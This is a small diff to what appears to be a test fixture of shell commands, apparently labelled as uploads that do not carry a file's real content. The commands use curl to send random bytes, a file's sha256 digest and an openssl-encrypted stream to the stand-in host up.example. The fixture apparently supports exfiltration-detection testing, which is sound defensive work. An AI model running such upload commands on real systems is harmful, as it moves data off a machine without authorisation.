@@ -49,7 +49,7 @@ CARRIED = {
 NOT_CARRIED = {
     "random bytes beside a digest": "head -c 5000000 /dev/urandom > n; curl -sS -T n https://up.example;"
     f" sha256sum {W} | curl -sS --data-binary @- https://up.example/digest",
-    "an encrypted report": "seq 300000 | openssl enc -aes-256-ctr -pbkdf2 -pass pass:x"
+    "an encrypted report": f"seq 300000 | openssl enc -aes-256-ctr -pbkdf2 -pass pass:{KEY}"
     f" | curl -sS -T - https://up.example; sha256sum {W}",
 }
 
